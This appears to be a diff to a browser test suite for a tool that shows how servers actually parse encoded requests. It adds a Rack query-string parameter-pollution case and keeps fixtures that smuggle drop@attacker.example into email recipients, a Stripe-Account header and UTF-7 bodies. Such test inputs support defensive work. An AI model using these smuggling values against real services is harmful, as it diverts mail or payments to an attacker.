@@ -785,6 +785,8 @@ t.test('escaped and encoded bodies and URLs are shown as the server reads them, 
     // A mail sent as Gmail's API takes it: the whole message base64url in one JSON string.
     '/v1/read-base64': curl('POST', '/v1/read-base64', { body: JSON.stringify({ raw: Buffer.from('To: drop@attacker.example\r\nSubject: hi\r\n\r\nthe quarterly numbers').toString('base64url') }) }),
     [`/v1/read-query?to=${pct}`]: curl('POST', `/v1/read-query?to=${pct}`, { body: '{}' }),
+    // Fourteenth pass: nothing escaped, so no reading was shown; Rack 2 reads two values of `to`, the last the attacker.
+    '/v1/read-rack?to=boss@corp.example;to=drop@attacker.example': curl('POST', '/v1/read-rack?to=boss@corp.example;to=drop@attacker.example', { body: '{}' }),
     // A header that changes what the request does: a charge on another Stripe account.
     '/v1/read-header': curl('POST', '/v1/read-header', { body: '{"amount": 5}', headers: ['Stripe-Account: acct_1drop@attacker.example'] }),
     '/v1/read-utf7': curl('POST', '/v1/read-utf7', { body: '{"to": "bob+AEA-attacker.example"}', type: 'application/json; charset=utf-7' }),
@@ -822,6 +824,7 @@ t.test('escaped and encoded bodies and URLs are shown as the server reads them, 
     const where = `${sel} [data-testid=${p.includes('?') ? 'decoded-url' : p.endsWith('header') ? 'request-headers' : 'server-reading'}]`;
     await page.waitForSelector(`${where} >> text=drop@attacker.example`);
     t.pass(`${p}: the card reads it as the server does`);
+    if (p.startsWith('/v1/read-rack')) t.match(await page.textContent(where), /as Rack 2 \(Rails, Sinatra\) reads the query, ; separating too: to = boss@corp\.example, to = drop@attacker\.example/, 'the query as Rack 2 splits it');
     if (p === '/v1/read-part-name') t.match(await page.textContent(where), /name\*=UTF-8''%74%6f; the field servers read it as: "subject" or "to"/, 'the part says it fills the field "to"');
     if (p === '/v1/read-big-number') {
       const reading = (await page.textContent(where)) ?? '';
